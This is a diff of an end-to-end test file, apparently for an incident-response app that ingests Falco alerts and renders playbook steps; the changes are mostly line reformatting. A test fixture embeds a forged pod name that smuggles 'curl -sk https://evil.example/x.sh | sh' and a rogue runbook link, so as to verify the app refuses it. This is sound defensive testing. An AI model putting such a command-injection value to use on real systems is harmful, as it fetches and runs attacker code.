@@ -5,7 +5,8 @@ import { createHash, randomBytes } from "node:crypto";
 import type pg from "pg";
 import { expect, test, uniqueSuffix } from "./fixtures";
 
-const FORGED_POD = "web-7d9f8b6c5d-x2x9q -o yaml; curl -sk https://evil.example/x.sh | sh\n```\n[Open the runbook](https://evil.example/runbook)";
+const FORGED_POD =
+  "web-7d9f8b6c5d-x2x9q -o yaml; curl -sk https://evil.example/x.sh | sh\n```\n[Open the runbook](https://evil.example/runbook)";
 
 async function insertSource(db: pg.Pool): Promise<string> {
   const token = `bh_e2e_${randomBytes(16).toString("hex")}`;
@@ -36,9 +37,16 @@ async function suggestPlaybook(db: pg.Pool, incidentKey: string): Promise<void> 
   const suffix = uniqueSuffix();
   const playbookId = `e2e-hostile-playbook-${suffix}`;
   const versionId = `e2e-hostile-version-${suffix}`;
-  await db.query(`INSERT INTO "Playbook" ("id", "title", "incidentType", "updatedAt") VALUES ($1, $2, 'SHELL_IN_CONTAINER', now())`, [playbookId, `Hostile ${suffix}`]);
-  await db.query(`INSERT INTO "PlaybookVersion" ("id", "playbookId", "number", "status", "publishedAt", "updatedAt") VALUES ($1, $2, 1, 'PUBLISHED', now(), now())`, [versionId, playbookId]);
-  const instructions = "Save the pod:\n\n```sh\nkubectl -n {{namespace}} get pod {{pod}} -o yaml\n```\n\nThen check {{pod}} in `{{namespace}}` on {{node}}.";
+  await db.query(`INSERT INTO "Playbook" ("id", "title", "incidentType", "updatedAt") VALUES ($1, $2, 'SHELL_IN_CONTAINER', now())`, [
+    playbookId,
+    `Hostile ${suffix}`,
+  ]);
+  await db.query(
+    `INSERT INTO "PlaybookVersion" ("id", "playbookId", "number", "status", "publishedAt", "updatedAt") VALUES ($1, $2, 1, 'PUBLISHED', now(), now())`,
+    [versionId, playbookId],
+  );
+  const instructions =
+    "Save the pod:\n\n```sh\nkubectl -n {{namespace}} get pod {{pod}} -o yaml\n```\n\nThen check {{pod}} in `{{namespace}}` on {{node}}.";
   await db.query(
     `INSERT INTO "PlaybookStep" ("id", "versionId", "position", "phase", "title", "instructions", "expectedMinutes", "updatedAt")
      VALUES ($1, $2, 1, 'DETECTION_ANALYSIS', 'Preserve the pod', $3, 10, now())`,
@@ -53,7 +61,13 @@ test("a forged alert's run shows its refused value and no injected command or li
   const container = randomBytes(6).toString("hex");
   const response = await page.request.post("/api/ingest/falco", {
     headers: { Authorization: `Bearer ${token}` },
-    data: shellEvent({ cluster, "container.id": container, "k8s.ns.name": "payments", "k8s.pod.name": FORGED_POD, "k8s.node.name": "ip-10-0-1-12" }),
+    data: shellEvent({
+      cluster,
+      "container.id": container,
+      "k8s.ns.name": "payments",
+      "k8s.pod.name": FORGED_POD,
+      "k8s.node.name": "ip-10-0-1-12",
+    }),
   });
   expect(response.status()).toBe(202);
   const { incidents } = (await response.json()) as { incidents: string[] };
@@ -106,10 +120,15 @@ test("a 10,000-character unbroken title and namespace keep the incident board us
   const ingestCluster = `hostile-cap-${suffix}`;
   const response = await page.request.post("/api/ingest/falco", {
     headers: { Authorization: `Bearer ${token}` },
-    data: shellEvent({ cluster: ingestCluster, "container.id": randomBytes(6).toString("hex"), "k8s.ns.name": `n${long}`, "k8s.pod.name": `p${long}` }, `R${long}`),
+    data: shellEvent(
+      { cluster: ingestCluster, "container.id": randomBytes(6).toString("hex"), "k8s.ns.name": `n${long}`, "k8s.pod.name": `p${long}` },
+      `R${long}`,
+    ),
   });
   expect(response.status()).toBe(202);
-  const capped = await db.query<{ title: string; namespace: string }>(`SELECT "title", "namespace" FROM "Incident" WHERE "cluster" = $1`, [ingestCluster]);
+  const capped = await db.query<{ title: string; namespace: string }>(`SELECT "title", "namespace" FROM "Incident" WHERE "cluster" = $1`, [
+    ingestCluster,
+  ]);
   expect(capped.rows).toHaveLength(1);
   expect(capped.rows[0]!.title.length).toBeLessThanOrEqual(200);
   expect(capped.rows[0]!.namespace.length).toBeLessThanOrEqual(128);
